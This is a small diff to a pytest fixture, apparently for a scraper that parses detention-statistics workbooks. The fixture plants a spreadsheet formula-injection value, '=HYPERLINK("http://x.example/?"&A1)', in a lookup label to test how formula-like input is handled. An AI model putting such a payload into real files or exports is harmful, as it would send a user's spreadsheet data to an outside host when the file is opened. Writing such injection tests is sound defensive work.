@@ -81,7 +81,7 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
         with session_scope(engine) as s:  # a label that a spreadsheet would run as a formula
             s.execute(
                 sa.update(FoiaLookup)
-                .where(col(FoiaLookup.table_name) == "nationality", FoiaLookup.code == "MX")
+                .where(col(FoiaLookup.table_name) == "nationality", col(FoiaLookup.code) == "MX")
                 .values(label='=HYPERLINK("http://x.example/?"&A1)')
             )
         from spiders.detention_stats import parse_workbook
